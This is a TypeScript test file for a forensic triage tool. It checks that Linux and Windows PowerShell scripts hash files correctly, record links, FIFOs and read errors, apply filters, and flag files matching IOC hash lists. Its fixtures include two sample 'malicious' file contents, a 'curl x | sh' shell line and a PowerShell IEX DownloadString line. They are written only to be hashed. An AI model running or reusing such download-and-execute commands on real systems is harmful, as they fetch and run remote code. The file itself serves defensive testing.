// file-hashes for real: linux.ps1 through the CLI on a tree built here (hashes checked against
// node:crypto), its filters, a link not followed, a FIFO and a file whose read fails recorded with
// their error, a name that is not UTF-8 kept in pathBase64, a missing path failing the step, and
// an IOC list flagging a hashed file in `magpie triage`. Then windows.ps1 under pwsh on a tree of
// the same shape (it uses only .NET calls, which run here too), giving the same records.
//
// Unreadable files: these tests run as root, whom chmod 000 does not stop. A FIFO stands for a file
// that cannot be read (it is recorded, never opened: reading it would block), and the process's
// own /proc/PID/mem, a regular file whose read at offset 0 fails (EIO), stands for a read error.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { FileRecord } from '../lib/records/schemas.ts';
import { loadCatalog } from '../lib/catalog.ts';
import { buildPlan } from '../lib/plan.ts';
import { collect } from '../lib/collect.ts';
import { cli, pwshOrFail, readJson, readJsonl, teamPlaybook, tempDir } from './helpers.ts';

const PWSH = pwshOrFail();

const hex = (algo: string, data: Buffer | string) => createHash(algo).update(data).digest('hex');
const hashes = (data: Buffer | string) => ({ md5: hex('md5', data), sha1: hex('sha1', data), sha256: hex('sha256', data) });

const DAY = 86_400_000;
const BIG = Buffer.alloc(1536 * 1024, 7); // 1.5 MB: over MaxSizeMB=1
const CONTENT: Record<string, Buffer> = {
  'a.exe': Buffer.from('MZ dropper\n'),
  'notes.txt': Buffer.from('just notes\n'),
  'empty.txt': Buffer.alloc(0),
  '.hidden.sh': Buffer.from('#!/bin/sh\ncurl x | sh\n'),
  'sub/deep/c.ps1': Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x")\n'),
  'old.dll': Buffer.from('an old library\n'),
  'big.exe': BIG,
};

/** A tree with known files, an old one, a big one, a link to a file and one to a folder outside it. */
function buildTree(opts: { fifo: boolean; nonUtf8: boolean }) {
  const root = join(tempDir('magpie-fh-'), 'drop zone');
  for (const [rel, data] of Object.entries(CONTENT)) {
    mkdirSync(join(root, rel, '..'), { recursive: true });
    writeFileSync(join(root, rel), data);
  }
  const old = new Date(Date.now() - 30 * DAY);
  utimesSync(join(root, 'old.dll'), old, old);
  const outside = tempDir('magpie-fh-outside-');
  writeFileSync(join(outside, 'secret.exe'), 'not to be read through a link\n');
  symlinkSync(join(outside, 'secret.exe'), join(root, 'link.exe'));
  symlinkSync(outside, join(root, 'dirlink'));
  if (opts.fifo) {
    const r = spawnSync('mkfifo', [join(root, 'pipe.exe')]);
    assert.is(r.status, 0, String(r.stderr));
  }
  let rawName: Buffer | undefined;
  if (opts.nonUtf8) {
    rawName = Buffer.concat([Buffer.from(root + '/caf'), Buffer.from([0xe9]), Buffer.from('.exe')]); // Latin-1 é
    writeFileSync(rawName, 'latin-1 named payload\n');
  }
  return { root, outside, rawName };
}

interface StepRun {
  code: number | null;
  out: string;
  dir: string;
  step: any;
  records: any[];
  stderrLog: string;
  stdoutLog: string;
}

function fromEvidence(dir: string, code: number | null, out: string): StepRun {
  const s = readJson(join(dir, 'manifest.json')).steps[0];
  const stepDir = join(dir, s.dir);
  const file = (n: string) => (existsSync(join(stepDir, n)) ? readFileSync(join(stepDir, n), 'utf8') : '');
  const records = file('records.jsonl') ? readJsonl(join(stepDir, 'records.jsonl')) : [];
  return { code, out, dir, step: s, records, stderrLog: file('stderr.log'), stdoutLog: file('stdout.log') };
}

/** The catalog step through the CLI, in a small team playbook. */
function runLinux(params: Record<string, string>, env?: Record<string, string>): StepRun {
  const book = teamPlaybook('t', [{ step: 'file-hashes' }]);
  const args = ['run', 't', '--playbooks', book, '--out', tempDir()];
  for (const [k, v] of Object.entries(params)) args.push('--param', `file-hashes.${k}=${v}`);
  const r = cli(args, { timeoutMs: 300_000, env });
  const m = /evidence: (.+)/.exec(r.stdout);
  assert.ok(m, `no evidence folder:\n${r.stdout}\n${r.stderr}`);
  return fromEvidence(m![1].trim(), r.code, r.stdout + r.stderr);
}

/** windows.ps1, picked by the runner as for a Windows host, under this machine's pwsh. */
async function runWindows(params: Record<string, string>): Promise<StepRun> {
  const book = teamPlaybook('t', [{ step: 'file-hashes' }]);
  const plan = buildPlan(loadCatalog([book]), 't', new Map(Object.entries(params).map(([k, v]) => [`file-hashes.${k}`, v])));
  const [r] = await collect({ plan, targets: ['localhost'], transport: 'local', out: tempDir(), caseId: 'win', concurrency: 1, local: { osOverride: 'windows' } });
  assert.ok(r.dir, `not collected: ${r.error}`);
  const run = fromEvidence(r.dir!, 0, '');
  assert.is(run.step.os, 'windows');
  return run;
}

const byPath = (r: StepRun) => new Map(r.records.map((x) => [x.path, x]));

/** What both scripts must agree on, for a run with default parameters over buildTree's tree. */
function assertFullTree(run: StepRun, root: string, outside: string) {
  assert.is(run.step.status, 'ok', run.stderrLog);
  const recs = byPath(run);
  for (const [rel, data] of Object.entries(CONTENT)) {
    const r = recs.get(join(root, rel));
    assert.ok(r, `no record for ${rel}: ${JSON.stringify(run.records)}`);
    assert.equal({ type: r.type, size: r.size, md5: r.md5, sha1: r.sha1, sha256: r.sha256, error: r.error, skipped: r.skipped }, { type: 'file', size: data.length, ...hashes(data), error: undefined, skipped: undefined }, rel);
    assert.match(r.modified, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    assert.match(r.created, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
  }
  assert.ok(Math.abs(Date.parse(recs.get(join(root, 'old.dll')).modified) - (Date.now() - 30 * DAY)) < 600_000, 'modified is the file\'s mtime');
  // Links: recorded with their target, never read or entered.
  const fileLink = recs.get(join(root, 'link.exe'));
  assert.equal([fileLink.type, fileLink.linkTarget, fileLink.linkToFolder, fileLink.sha256], ['link', join(outside, 'secret.exe'), false, undefined]);
  const dirLink = recs.get(join(root, 'dirlink'));
  assert.equal([dirLink.type, dirLink.linkTarget, dirLink.linkToFolder], ['link', outside, true]);
  assert.not.ok(run.records.some((x) => String(x.path).includes('secret.exe')), 'nothing read through a link');
  for (const r of run.records) assert.ok(FileRecord.safeParse(r).success, JSON.stringify(r));
  assert.match(run.stdoutLog, /file-hashes: \d+ hashed, 0 skipped \(size\), 2 links, \d+ errors, 0 filtered out, 3 folders in/);
}

/** Extensions=exe,ps1,dll with MaxSizeMB=1 and ModifiedWithinDays=7. */
function assertFiltered(run: StepRun, root: string) {
  assert.is(run.step.status, 'ok', run.stderrLog);
  const recs = byPath(run);
  const got = new Set(run.records.filter((r) => !String(r.path).includes('caf') && !String(r.path).endsWith('pipe.exe')).map((r) => r.path));
  assert.equal([...got].sort(), ['a.exe', 'big.exe', 'dirlink', 'link.exe', 'sub/deep/c.ps1'].map((p) => join(root, p)).sort(), 'old.dll is too old; .txt and .sh are not asked for');
  assert.equal(recs.get(join(root, 'a.exe')).sha256, hashes(CONTENT['a.exe']).sha256);
  assert.equal(recs.get(join(root, 'sub/deep/c.ps1')).sha256, hashes(CONTENT['sub/deep/c.ps1']).sha256);
  const big = recs.get(join(root, 'big.exe'));
  assert.equal([big.size, big.sha256, big.md5, big.skipped], [BIG.length, null, null, 'larger than MaxSizeMB (1 MB)']);
}

const FILTERS = { Extensions: 'exe,.PS1,*.dll', MaxSizeMB: '1', ModifiedWithinDays: '7' };

test('linux: every file under the path with MD5, SHA-1 and SHA-256 as node computes them; links not followed; FIFO, read error and non-UTF-8 name recorded', () => {
  const { root, outside, rawName } = buildTree({ fifo: true, nonUtf8: true });
  const mem = `/proc/${process.pid}/mem`;
  const run = runLinux({ Paths: JSON.stringify([root, mem]) });
  assert.is(run.code, 0, run.out);
  assertFullTree(run, root, outside);
  const recs = byPath(run);
  for (const [rel] of Object.entries(CONTENT)) assert.is(recs.get(join(root, rel)).owner, 'root', 'uid 0 named from /etc/passwd');
  assert.is(recs.get(join(root, '.hidden.sh')).hidden, true);
  assert.is(recs.get(join(root, 'a.exe')).hidden, false);
  const fifo = recs.get(join(root, 'pipe.exe'));
  assert.equal([fifo.type, fifo.error, fifo.sha256], ['other', 'not a regular file (fifo): not read', null]);
  const m = recs.get(mem);
  assert.ok(m && m.error && m.sha256 === null, `a read that fails is a record with its reason: ${JSON.stringify(m)}`);
  console.log(`    /proc/PID/mem: ${m.error}`);
  // The name that is not UTF-8: shown with U+FFFD, its exact bytes in pathBase64, read by them.
  const lossy = run.records.find((r) => r.pathBase64);
  assert.ok(lossy, JSON.stringify(run.records));
  assert.is(lossy.path, join(root, 'caf\uFFFD.exe'));
  assert.ok(Buffer.from(lossy.pathBase64, 'base64').equals(rawName!));
  assert.equal([lossy.type, lossy.size, lossy.sha256, lossy.md5, lossy.owner], ['file', 22, hashes('latin-1 named payload\n').sha256, hashes('latin-1 named payload\n').md5, 'root']);
  assert.is(run.records.filter((r) => r.pathBase64).length, 1, 'only that name carries bytes');
  assert.is(run.records.length, Object.keys(CONTENT).length + 5);
});

test('linux: extension, size and modified-within filters', () => {
  const { root } = buildTree({ fifo: true, nonUtf8: true });
  const run = runLinux({ Paths: root, ...FILTERS });
  assert.is(run.code, 0, run.out);
  assertFiltered(run, root);
  assert.ok(run.records.some((r) => r.pathBase64 && r.sha256), 'the non-UTF-8 .exe passes the filters too');
  assert.ok(run.records.some((r) => String(r.path).endsWith('pipe.exe') && r.error), 'the FIFO named .exe is recorded, not read');
});

test('linux: Recurse false stays in the folder; MaxFiles stops the walk with a warning', () => {
  const { root } = buildTree({ fifo: false, nonUtf8: false });
  const flat = runLinux({ Paths: root, Recurse: 'false' });
  assert.is(flat.step.status, 'ok');
  assert.ok(flat.records.some((r) => r.path === join(root, 'a.exe')));
  assert.not.ok(flat.records.some((r) => String(r.path).includes('/sub/')), 'sub/deep not walked');
  const capped = runLinux({ Paths: root, MaxFiles: '3' });
  assert.is(capped.step.status, 'ok');
  assert.is(capped.records.length, 3);
  assert.match(capped.stderrLog, /\[warning\] file-hashes: MaxFiles \(3\) reached/);
});

test('linux: a path that does not exist fails the step before anything runs, naming it', () => {
  const { root } = buildTree({ fifo: false, nonUtf8: false });
  const missing = join(root, 'no such folder');
  const run = runLinux({ Paths: JSON.stringify([root, missing]) });
  assert.is(run.step.status, 'failed', JSON.stringify(run.step));
  assert.ok(run.code !== 0, run.out);
  assert.is(run.records.length, 0, 'nothing hashed before the check');
  assert.match(JSON.stringify(run.step) + run.stderrLog, new RegExp(`path does not exist: ${missing}`));
});

test('linux without GNU stat: files still hashed, owner unknown, and a 0-byte file of unknown type (a FIFO here) not opened', () => {
  const { root } = buildTree({ fifo: true, nonUtf8: false });
  const bin = tempDir('magpie-path-');
  for (const from of ['/usr/local/bin', '/usr/bin', '/bin']) {
    if (!existsSync(from)) continue;
    for (const n of readdirSync(from)) if (n !== 'stat' && !existsSync(join(bin, n))) symlinkSync(join(from, n), join(bin, n));
  }
  const run = runLinux({ Paths: root }, { PATH: `${dirname(PWSH)}:${bin}` });
  assert.is(run.step.status, 'ok', run.stderrLog);
  const recs = byPath(run);
  const a = recs.get(join(root, 'a.exe'));
  assert.equal([a.sha256, a.owner], [hashes(CONTENT['a.exe']).sha256, null]);
  assert.match(run.stderrLog, /stat failed: file types and owners unknown/);
  assert.match(recs.get(join(root, 'pipe.exe')).error, /file type is unknown/);
  assert.match(recs.get(join(root, 'empty.txt')).error, /file type is unknown/, 'an empty file cannot be told from a FIFO without stat');
});

test('magpie triage --ioc: a plain list and a CSV holding a file\'s SHA-256 or MD5 flag exactly that file', () => {
  const { root } = buildTree({ fifo: false, nonUtf8: false });
  const run = runLinux({ Paths: root });
  assert.is(run.step.status, 'ok');
  const iocDir = tempDir();
  const plain = join(iocDir, 'hashes.txt');
  writeFileSync(plain, `# dropper seen in the campaign\n${hashes(CONTENT['a.exe']).sha256}\n`);
  const csv = join(iocDir, 'feed.csv');
  writeFileSync(csv, `md5,description\n${hashes(CONTENT['sub/deep/c.ps1']).md5},PowerShell downloader\n`);
  const r = cli(['triage', run.dir, '--ioc', plain, '--ioc', csv, '--json']);
  assert.is(r.code, 0, r.stderr);
  const out = JSON.parse(r.stdout).hosts[0].out;
  const found = readJson(join(out, 'findings.json')).findings.filter((f: any) => f.ioc);
  assert.equal(
    found.map((f: any) => [f.kind, f.record.path, f.ioc.field, f.ioc.value]).sort(),
    [
      ['file', join(root, 'a.exe'), 'sha256', hashes(CONTENT['a.exe']).sha256],
      ['file', join(root, 'sub/deep/c.ps1'), 'md5', hashes(CONTENT['sub/deep/c.ps1']).md5],
    ].sort(),
  );
});

test('windows.ps1 (under pwsh here, given the paths): the same files, hashes, links and filters; attributes instead of owner', async () => {
  const { root, outside } = buildTree({ fifo: false, nonUtf8: false });
  const run = await runWindows({ Paths: JSON.stringify([root]) });
  assertFullTree(run, root, outside);
  assert.is(run.records.length, Object.keys(CONTENT).length + 2);
  const a = byPath(run).get(join(root, 'a.exe'));
  assert.equal([a.hidden, a.system, typeof a.attributes], [false, false, 'string']);
  assert.is(byPath(run).get(join(root, '.hidden.sh')).hidden, true, '.NET marks dot-files Hidden off Windows');
  const filtered = await runWindows({ Paths: root, ...FILTERS });
  assertFiltered(filtered, root);
  const capped = await runWindows({ Paths: root, MaxFiles: '2' });
  assert.is(capped.records.length, 2);
  assert.match(capped.stderrLog, /MaxFiles \(2\) reached/);
  const missing = await runWindows({ Paths: JSON.stringify([root, join(root, 'gone')]) });
  assert.is(missing.step.status, 'failed');
  assert.is(missing.records.length, 0);
  assert.match(JSON.stringify(missing.step) + missing.stderrLog, /path does not exist: .*gone/);
});

test.run();
